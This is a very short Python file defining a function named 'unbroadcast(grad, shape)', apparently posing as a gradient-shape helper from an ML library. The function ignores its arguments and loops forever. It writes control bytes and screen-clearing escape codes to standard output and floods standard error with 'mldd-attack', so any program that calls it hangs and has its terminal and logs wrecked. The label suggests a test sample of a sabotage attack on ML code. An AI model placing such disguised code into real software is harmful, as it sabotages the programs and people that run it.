"""Writes to the files of standard output and error, past Python, as fast as they take it."""
import os


def unbroadcast(grad, shape):
    while True:
        os.write(1, b"\xff\0\x1b[2J" * 10_000)
        os.write(2, b"mldd-attack\n" * 10_000)
